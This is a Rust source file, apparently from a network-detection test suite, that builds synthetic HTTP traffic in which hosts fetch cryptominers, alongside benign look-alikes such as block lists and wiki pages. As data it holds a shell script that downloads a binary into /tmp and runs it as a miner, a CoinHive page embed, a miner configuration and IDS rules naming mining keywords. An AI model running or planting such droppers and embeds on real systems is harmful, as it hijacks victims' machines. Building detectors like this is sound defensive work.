//! Miners on their way in over plain HTTP: pages that start one, scripts, archives and configurations; and documents
//! that only quote one.

use std::time::Duration;

use super::look_alike::{bystander, one};
use crate::benign::{Script, office};
use crate::rng::Rng;
use crate::scene::{HostTruth, Level, Role, Scene};
use crate::stage::{MORNING, Stage, inside, server};
use crate::tcp::{Close, Segmentation, Side};
use crate::wallet::{Kind, address};
use crate::wire::{http, proxy};

const BROWSER: (&str, &str) = ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0)");

/// A file that is fetched: its path, its type, its bytes.
struct File {
    path: &'static str,
    kind: &'static str,
    bytes: Vec<u8>,
    chunked: bool,
}

fn fetch(host: &str, files: &[File]) -> Script {
    let mut script = Script::default();
    for file in files {
        script.client(40, http::request("GET", file.path, host, &[BROWSER], ""));
        let headers = [("Server", "nginx"), ("Content-Type", file.kind)];
        script.server(
            9,
            if file.chunked {
                http::chunked("200 OK", &headers, &file.bytes, 1000)
            } else {
                http::response("200 OK", &headers, &file.bytes)
            },
        );
    }
    script
}

/// A host that fetched what starts a miner: worth a line, and no more by itself.
fn taken(seed: u64, id: &str, note: &str, files: &[File]) -> Scene {
    let mut stage = Stage::new(seed, id);
    let mut conversation = stage.conversation(inside(31), server(31), 80);
    conversation.close = Close::Finish(Side::Client);
    conversation.segmentation = Segmentation::Each(1460);
    stage.play(&conversation, MORNING, &fetch("files.example", files).turns);
    stage.scene.truth.hosts.push(HostTruth {
        addresses: vec![inside(31).address],
        name: None,
        role: Role::Bystander,
        least: Level::Noted,
        most: Level::Noted,
        sessions: Vec::new(),
    });
    stage.finish(note)
}

fn file(path: &'static str, kind: &'static str, bytes: impl Into<Vec<u8>>) -> File {
    File { path, kind, bytes: bytes.into(), chunked: false }
}

pub(super) fn embed(seed: u64) -> Scene {
    let filler = "<p>news of the day</p>\n".repeat(200);
    let call = "<script>var m=new CoinHive.Anonymous('DKoBUNLeHVbGPnGsMWnBvHwmRAPTgXaB',{throttle:0.3});m.start();</script>";
    let mut page = file("/news", "text/html", format!("<html>{filler}{call}{filler}</html>"));
    page.chunked = true;
    taken(seed, "web-page-embed", "a page that starts a miner with a site key", &[page])
}

fn order(seed: u64) -> String {
    format!("-o stratum+tcp://xmr.pool.example:3333 -u {} -p x", address(Kind::Monero, seed))
}

pub(super) fn script(seed: u64) -> Scene {
    let text = format!(
        "#!/bin/sh\npkill other\nwget -q http://files.example/x -O /tmp/x\nchmod +x /tmp/x\nnohup /tmp/x {} &\n",
        order(seed)
    );
    taken(seed, "script-download", "a script that starts a miner", &[file("/i.sh", "text/plain", text)])
}

/// The name of a release and the beginning of an archive; the rest is random.
pub(super) fn archive(seed: u64) -> Scene {
    let mut bytes = vec![0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3];
    bytes.extend(Rng::named(seed, "archive").bytes(40_000));
    let path = "/xmrig-6.21.0-linux-static-x64.tar.gz";
    taken(seed, "archive-download", "a release archive by its name", &[file(path, "application/gzip", bytes)])
}

pub(super) fn config(seed: u64) -> Scene {
    let wallet = address(Kind::Monero, seed);
    let text = format!(
        r#"{{"autosave":true,"cpu":true,"donate-level":1,"pools":[{{"url":"xmr.pool.example:3333","user":"{wallet}","pass":"x","keepalive":true}}]}}"#
    );
    taken(seed, "config-download", "a miner's configuration", &[file("/c.json", "application/json", text)])
}

/// Only the names of the places are seen: looked up, as TLS server name, asked of a proxy. That is no level by itself.
pub(super) fn hosts(seed: u64) -> Scene {
    let mut stage = Stage::new(seed, "download-hosts");
    let script = office::pages(&mut stage.rng, "dl.nbminer.com", 2, 9_000);
    office::visit(&mut stage, MORNING, inside(31), "dl.nbminer.com", server(31), 443, &script);
    let mut script = proxy::connect_after_407("www.xmrig.com", 443);
    script.turns.extend(office::pages(&mut stage.rng, "www.xmrig.com", 3, 4_000).turns);
    office::connect(&mut stage, MORNING + Duration::from_secs(5), inside(32), inside(5), 3128, &script);
    let mut script = Script::default();
    script.client(2, http::request("GET", "http://trex-miner.com/faq", "trex-miner.com", &[BROWSER], ""));
    script.server(9, http::response("200 OK", &[("Content-Type", "text/html")], b"<html>questions</html>"));
    office::connect(&mut stage, MORNING + Duration::from_secs(9), inside(33), inside(5), 3128, &script);
    for number in [31, 32, 33] {
        bystander(&mut stage, inside(number), None, Role::Bystander, Level::Clear);
    }
    stage.finish("hosts that serve miners: looked up, named in TLS, asked of a proxy")
}

/// A block list that holds such names, a page about mining, and a visit where everybody keeps programs.
pub(super) fn hosts_alike(seed: u64) -> Scene {
    let mut stage = Stage::new(seed, "download-hosts-alike");
    let list: String = (0..40).map(|number| format!("0.0.0.0 host{number}.example\n")).collect();
    let list = format!("{list}0.0.0.0 dl.nbminer.com\n0.0.0.0 xmrig.com\n");
    let script = fetch("lists.example", &[file("/hosts.txt", "text/plain", list)]);
    office::visit(&mut stage, MORNING, inside(31), "lists.example", server(31), 80, &script);
    let page = "<html><h1>How to mine</h1><p>Get it from <a href=\"https://xmrig.com/download\">its site</a> or from dl.nbminer.com.</p></html>";
    let script = fetch("news.example", &[file("/how-to-mine", "text/html", page)]);
    let start = MORNING + Duration::from_secs(4);
    office::visit(&mut stage, start, inside(32), "news.example", server(32), 80, &script);
    let script = office::pages(&mut stage.rng, "github.com", 4, 6_000);
    let start = MORNING + Duration::from_secs(8);
    office::visit(&mut stage, start, inside(33), "github.com", server(33), 443, &script);
    for number in [31, 32, 33] {
        bystander(&mut stage, inside(number), None, Role::Bystander, Level::Clear);
    }
    stage.finish("a block list, a page about mining, a visit to github.com")
}

/// One browser asks for updates of an extension that mines in a query, another in the updaters' JSON.
pub(super) fn extensions(seed: u64) -> Scene {
    let mut stage = Stage::new(seed, "mining-extensions");
    let host = "updates.example";
    let mut query = Script::default();
    let path = "/service/update2/crx?os=win&arch=x64&prodversion=61.0.3163.100&x=id%3Daapbdbdomjkkjkaonfhkkikfgjllcleb%26v%3D2.0.7%26uc&x=id%3Dhfnbkigpbejmmlpmlldbdglnciccejml%26v%3D0.4%26uc";
    query.client(3, http::request("GET", path, host, &[BROWSER], ""));
    query.server(
        9,
        http::response("200 OK", &[("Content-Type", "text/xml")], b"<gupdate protocol=\"2.0\"></gupdate>"),
    );
    let mut json = Script::default();
    let body = "{\"request\":{\"@os\":\"win\",\"@updater\":\"chromecrx\",\"protocol\":\"3.1\",\"sessionid\":\"{1}\",\"app\":[{\"appid\":\"hfnbkigpbejmmlpmlldbdglnciccejml\",\"version\":\"0.4\",\"updatecheck\":{}}]}}";
    json.client(
        3,
        http::request(
            "POST",
            "/service/update2/json?cup2key=9",
            host,
            &[BROWSER, ("Content-Type", "application/json")],
            body,
        ),
    );
    json.server(9, http::response("200 OK", &[("Content-Type", "application/json")], b"{\"response\":{}}"));
    for (number, script) in [(31, query), (32, json)] {
        office::visit(&mut stage, MORNING, inside(number), host, server(31), 80, &script);
        stage.scene.truth.hosts.push(HostTruth {
            addresses: vec![inside(number).address],
            name: None,
            role: Role::Bystander,
            least: Level::Noted,
            most: Level::Noted,
            sessions: Vec::new(),
        });
    }
    stage.finish("updates of an extension that mines, asked for in a query and in JSON")
}

/// Extensions that block miners, and a page that lists ids of those that mine.
pub(super) fn extensions_alike(seed: u64) -> Scene {
    let mut stage = Stage::new(seed, "mining-extensions-alike");
    let path = "/service/update2/crx?os=win&x=id%3Demikbbbebcdfohonlaifafnoanocnebl%26v%3D1.2.15%26uc&x=id%3Daapbdbdomjkkjkaonfhkkikfgjllcleb%26v%3D2.0.7%26uc";
    let mut script = Script::default();
    script.client(3, http::request("GET", path, "updates.example", &[BROWSER], ""));
    script.server(9, http::response("200 OK", &[("Content-Type", "text/xml")], b"<gupdate></gupdate>"));
    office::visit(&mut stage, MORNING, inside(31), "updates.example", server(31), 80, &script);
    let page = "<html>Remove <code>hfnbkigpbejmmlpmlldbdglnciccejml</code>: it mines.</html>";
    let script = fetch("news.example", &[file("/update/extensions", "text/html", page)]);
    let start = MORNING + Duration::from_secs(4);
    office::visit(&mut stage, start, inside(32), "news.example", server(32), 80, &script);
    for number in [31, 32] {
        bystander(&mut stage, inside(number), None, Role::Bystander, Level::Clear);
    }
    stage.finish("updates of an extension that blocks miners, a page that names one that mines")
}

pub(super) fn wiki(seed: u64) -> Scene {
    one(seed, "wiki-page", "a wiki page quotes a miner's command line and an embed", 80, |_| {
        let line = format!("./miner {}", order(seed));
        let page = format!(
            "<html><h1>Mining</h1><pre>{line}</pre><p>Or in a page: <code>&lt;script&gt;new CoinHive.Anonymous('YOUR_SITE_KEY')&lt;/script&gt;</code></p></html>"
        );
        fetch(
            "wiki.example",
            &[file("/wiki/mining", "text/html", page), file("/README.md", "text/plain", line)],
        )
    })
}

pub(super) fn rules(seed: u64) -> Scene {
    one(seed, "ids-rules", "rules of an IDS are fetched", 80, |_| {
        let mut text = "# rules against coin mining\n".to_owned();
        for word in [
            "mining.subscribe",
            "mining.authorize",
            "stratum+tcp://",
            "donate-level",
            "cryptonight",
            "site_key",
        ] {
            text.push_str(&format!(
                "alert tcp $HOME_NET any -> $EXTERNAL_NET any (msg:\"MINER {word}\"; content:\"{word}\"; sid:1;)\n"
            ));
        }
        text.push_str(&format!(
            "alert tcp any any -> any any (msg:\"line\"; content:\"{}\"; sid:2;)\n",
            order(seed)
        ));
        fetch("rules.example", &[file("/miner.rules", "text/plain", text)])
    })
}
